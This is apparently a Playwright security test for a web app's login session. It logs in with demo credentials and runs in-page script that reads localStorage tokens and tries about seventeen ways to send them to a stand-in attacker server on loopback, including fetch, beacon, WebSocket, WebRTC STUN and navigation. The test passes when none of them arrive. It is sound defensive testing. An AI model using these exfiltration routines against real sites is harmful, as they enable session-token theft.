// A script running in the page as an attacker's would, with the session token in
// hand, tries every way out it has to another origin; an "attacker" server on another 127.0.0.1 port
// (HTTP, WebSocket upgrades and STUN over UDP on the same number) must receive nothing. Chromium.
// This file's own test fixture: the violations are the point here, not a failure.
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import { expect, test } from '@playwright/test';

const ATTACKER_PORT = Number(process.env.ATTACKER_PORT ?? 5611);
const attacker = `http://127.0.0.1:${ATTACKER_PORT}`;
const received: string[] = [];
let http: Server;
let udp: Socket;

test.beforeAll(async () => {
  http = createServer((req, res) => {
    received.push(`http ${req.method} ${req.url}`);
    res.end('ok');
  });
  http.on('upgrade', (req, socket) => {
    received.push(`websocket ${req.url}`);
    socket.destroy();
  });
  udp = createSocket('udp4');
  udp.on('message', () => received.push('udp (STUN)'));
  await new Promise<void>((done) => http.listen(ATTACKER_PORT, '127.0.0.1', done));
  await new Promise<void>((done) => udp.bind(ATTACKER_PORT, '127.0.0.1', done));
});
test.afterAll(async () => {
  http?.closeAllConnections();
  await new Promise((r) => http?.close(r));
  await new Promise<void>((r) => udp?.close(() => r()));
});

test('a script in the page with the token reaches no other origin by any way out', async ({ page }) => {
  test.setTimeout(60_000);
  const reports: string[] = [];
  page.on('console', (m) => reports.push(m.text()));
  await page.goto('/login');
  await page.getByLabel('Email').pressSequentially('installer@example.com');
  await page.getByLabel('Password').pressSequentially('solshare-demo');
  await page.getByRole('button', { name: 'LOGIN' }).click();
  await expect(page).toHaveURL(/\/welcome$/);
  const app = new URL(page.url()).origin;

  const tried = await page.evaluate(async (to) => {
    const token = Object.values(localStorage).join('|').slice(0, 4000); // whatever holds the session
    const url = (way: string) => `${to}/${way}?t=${encodeURIComponent(token.slice(0, 200))}`;
    const outcome: Record<string, string> = {};
    const attempt = async (way: string, run: () => unknown) => {
      try {
        await run();
        outcome[way] = 'no error';
      } catch (e) {
        outcome[way] = `refused: ${e instanceof Error ? e.name : String(e)}`;
      }
    };
    await attempt('fetch', () => fetch(url('fetch'), { method: 'POST', mode: 'no-cors', body: token }));
    await attempt('xhr', () => {
      const x = new XMLHttpRequest();
      x.open('POST', url('xhr'));
      x.send(token);
    });
    await attempt('beacon', () => navigator.sendBeacon(url('beacon'), token));
    await attempt('img', () => {
      new Image().src = url('img');
    });
    await attempt('form post', () => {
      const f = document.createElement('form');
      f.method = 'POST';
      f.action = url('form');
      document.body.append(f);
      f.submit();
    });
    await attempt('websocket', () => new WebSocket(url('ws').replace('http', 'ws')));
    await attempt('eventsource', () => new EventSource(url('sse')));
    await attempt('iframe', () => {
      const i = document.createElement('iframe');
      i.src = url('iframe');
      document.body.append(i);
    });
    await attempt('prefetch', () => {
      const l = document.createElement('link');
      l.rel = 'prefetch';
      l.href = url('prefetch');
      document.head.append(l);
    });
    await attempt('script', () => {
      const s = document.createElement('script');
      s.src = url('script');
      document.head.append(s);
    });
    await attempt('innerHTML', () => {
      document.createElement('div').innerHTML = `<img src="${url('html')}">`;
    });
    await attempt('webrtc', async () => {
      const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
      pc.createDataChannel(token.slice(0, 50));
      await pc.setLocalDescription(await pc.createOffer());
    });
    await attempt('window.open', () => {
      if (window.open(url('open')) === null) throw new Error('null window');
    });
    await attempt('link click', () => {
      const a = document.createElement('a');
      a.href = url('link');
      document.body.append(a);
      a.click();
    });
    await attempt('navigation.navigate', () =>
      (window as unknown as { navigation?: { navigate(u: string): unknown } }).navigation?.navigate(url('navigate')),
    );
    await attempt('location', () => {
      location.href = url('location');
    });
    return outcome;
  }, attacker);

  await page.waitForTimeout(3_000); // what was sent has arrived by now (loopback)
  await page.screenshot({ path: 'test-results/ways-out.png' });
  console.log('ways out tried:', JSON.stringify(tried, null, 1));
  expect(received, 'the attacker received nothing').toEqual([]);
  expect(new URL(page.url()).origin).toBe(app); // the page is still the app
  for (const p of page.context().pages()) expect(p.url()).not.toContain(`:${ATTACKER_PORT}`);
  expect(tried.innerHTML).toMatch(/^refused: TypeError/); // Trusted Types
});
